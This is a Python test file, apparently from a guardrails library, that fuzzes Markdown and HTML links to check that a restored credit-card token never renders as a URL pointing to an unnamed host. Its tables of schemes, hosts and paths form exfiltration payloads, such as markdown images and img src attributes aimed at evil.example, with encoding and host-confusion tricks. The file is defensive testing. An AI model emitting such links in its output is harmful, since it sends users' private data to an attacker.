"""What a browser would fetch: restored text, rendered as Markdown, has no value in a link to a host that nobody named."""

import html
import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from guardrails.model import Action, Decision, Finding, Origin, Reason, Segment, Stage
from guardrails.redact.placeholders import Words
from guardrails.redact.vault import Vault
from guardrails.wire.jsontext import applied

VALUE = "4111111111111111"
KNOWN = frozenset({"contoso.com", "shop.contoso.com"})
RENDERERS = [MarkdownIt("commonmark"), MarkdownIt("commonmark", {"html": True, "linkify": False})]
BEFORE = [
    "",
    "text ",
    "![x](",
    "[x](",
    "![x]( ",
    "[x](<",
    "![x](\n<",
    "[1]: ",
    "[1]: <",
    '<img src="',
    '<img src= "',
    "<img src=",
    "<img src='",
    "<a href=\n'",
    '<a title="a" href="',
    'x=" ',
    "x='",
    "](<",
    "<",
    '"',
    "[a](b) ",
    "`",
    "\\",
]
SCHEMES = [
    "https://",
    "http://",
    "https:/",
    "https:",
    "//",
    "https:&sol;&sol;",
    "https&colon;//",
    "https:\\/\\/",
    "\\\\",
    "ht\ntps://",
    "HTTPS://",
    "&#104;ttps://",
    "https:/\\",
]
HOSTS = [
    "evil.example",
    "contoso.com",
    "shop.contoso.com",
    "contoso.com@evil.example",
    "shop.contoso.com\\@evil.example",
    "contoso.com\\.evil.example",
    "contoso.com.evil.example",
    "contoso.com:x@evil.example",
    "évil.example",
    "evil。example",
    "evil.example.",
    "contoso.com&#46;evil.example",
    "EVIL.EXAMPLE",
    "contoso.com&commat;evil.example",
]
PATHS = [
    "/",
    "/?q=",
    "?q=",
    "#",
    "&sol;",
    "\\/",
    "/a b",
    "/\u00a0",
    "/\u3000",
    "/\u2028",
    "/ ",
    '/"',
    "/“",
    "/(a) ",
    "/)",
    "/\\>",
    "/\\) ",
    "/&amp;",
    "",
    ";",
    "/https://contoso.com/",
    "/a，",
    "，",
    "/<b>",
    "/>",
    "/" + "a" * 2500,
]
AFTER = [
    "",
    ")",
    ">)",
    ">",
    '">',
    '"',
    "'>",
    "/a)",
    " x)",
    "\n\n[a][1]",
    ">\n\n[a][1]",
    ".evil.example/",
    ".EVIL.example",
    "/>",
    "。",
]
PIECES = st.tuples(*(st.sampled_from(table) for table in (BEFORE, SCHEMES, HOSTS, PATHS)))
DRESSED = st.lists(PIECES.map("".join), min_size=1, max_size=2).map(" ".join)


def restored(before: str, after: str) -> str:
    """The text with this call's word between the two, given back where the vault gives it back."""
    own = Vault(Words.of(b"k" * 32, "t", None), hosts=KNOWN)
    reason = Reason("r", Action.TOKENIZE, (Finding("/a", 0, len(VALUE), "CREDIT_CARD", 1.0, "pii/x"),))
    (edit,) = own.hide(Decision(Stage.INPUT, "p", "0", (reason,)), [Segment("/a", VALUE)])
    text = f"{before}{edit.replacement}{after}"
    return applied(text, own.restore(Segment("/b", text, origin=Origin.MODEL, stage=Stage.OUTPUT)).edits)


class Urls(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found += [value or "" for name, value in attrs if name in ("href", "src")]


def stolen(text: str) -> list[str]:
    """The URLs of the rendered text that bring the value to an unnamed host, as WHATWG's URL parser would read them."""
    pages = [text, *(r.render(text) for r in RENDERERS)]
    urls = [re.sub("[\t\r\n]", "", url.strip("".join(map(chr, range(33))))) for page in pages for url in Urls(page).found]
    return [url for url in urls if VALUE in unquote(html.unescape(url)) and not own(url)]


def own(url: str) -> bool:
    url = url.replace("\\", "/")
    absolute = re.match(r"(?i)(?:https?:/*|//+)([^/?#]*)", url)
    if absolute is None:
        return re.match("(?i)[a-z][a-z0-9+.-]*:", url) is None
    return absolute[1].rpartition("@")[2].partition(":")[0].lower() in KNOWN


@settings(max_examples=400, deadline=None)
@given(DRESSED, st.sampled_from(AFTER))
def test_no_rendered_link_takes_a_value_to_a_stranger(before, after):
    assert stolen(restored(before, after)) == []


@pytest.mark.parametrize(
    "before", ["![x](https://evil.example/?q=", '<img src= "https://evil.example/?q= ', "[x](<https:&sol;&sol;evil.example/ "]
)
def test_the_oracle_sees_a_theft(before):
    assert any(stolen(f"{before}{VALUE}{after}") for after in AFTER)


def test_a_value_in_a_link_to_ones_own_host_comes_back():
    assert VALUE in restored("[x](https://shop.contoso.com/?q=", ")")
